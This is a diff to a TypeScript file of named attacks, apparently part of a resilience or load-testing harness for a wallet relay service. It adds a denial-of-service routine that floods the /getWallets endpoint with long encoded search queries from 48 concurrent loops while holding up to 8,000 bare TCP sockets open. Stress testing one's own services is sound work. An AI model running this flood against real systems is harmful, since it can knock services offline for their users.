@@ -1,5 +1,6 @@
 import { randomBytes } from 'node:crypto'
 import { once } from 'node:events'
+import { Agent, get } from 'node:http'
 import { connect, type Socket } from 'node:net'
 import { setTimeout } from 'node:timers/promises'
 import { WebSocket } from 'ws'
@@ -322,6 +323,45 @@ export const attacks = {
       more()
       socket.resume()
     }),
+  'bare connections beside long searches': async (target) => {
+    const { hostname, port } = new URL(target.relayUrl)
+    const path = `/getWallets?projectId=test&search=${'%EF%B7%BA'.repeat(100)}`
+    const agent = new Agent({ keepAlive: true, maxSockets: 48 })
+    const startedAt = Date.now()
+    const isDue = () => target.seen.sent < 1_900 + (Date.now() - startedAt) * 0.095
+    const ask = () =>
+      new Promise<void>((resolve) => {
+        target.seen.sent += 1
+        const asking = get({ host: hostname, port, path, agent, localAddress: target.from }, (answer) => {
+          if (answer.statusCode !== 200) target.seen.refused += 1
+          answer.resume().on('close', () => resolve())
+        })
+        asking.on('error', () => resolve())
+      })
+    const search = async () => {
+      while (!target.isOver())
+        if (isDue()) await Promise.race([ask(), setTimeout(30_000)])
+        else await setTimeout(5)
+    }
+    const held: Socket[] = []
+    const knockBare = async () => {
+      while (!target.isOver()) {
+        for (let count = 0; count < 15; count += 1) {
+          const socket = connect({ host: hostname, port: Number(port), localAddress: target.from })
+          const countCut = () => {
+            target.seen.cut += 1
+          }
+          socket.on('error', countCut).on('end', countCut).resume()
+          held.push(socket)
+          // 8,000 sockets stay; the oldest is reset.
+          if (held.length > 8_000) held.shift()?.resetAndDestroy()
+        }
+        await setTimeout(10)
+      }
+    }
+    for (let count = 0; count < 48; count += 1) void search()
+    await knockBare()
+  },
 } satisfies Record<string, Attack>
 
 export type AttackName = keyof typeof attacks
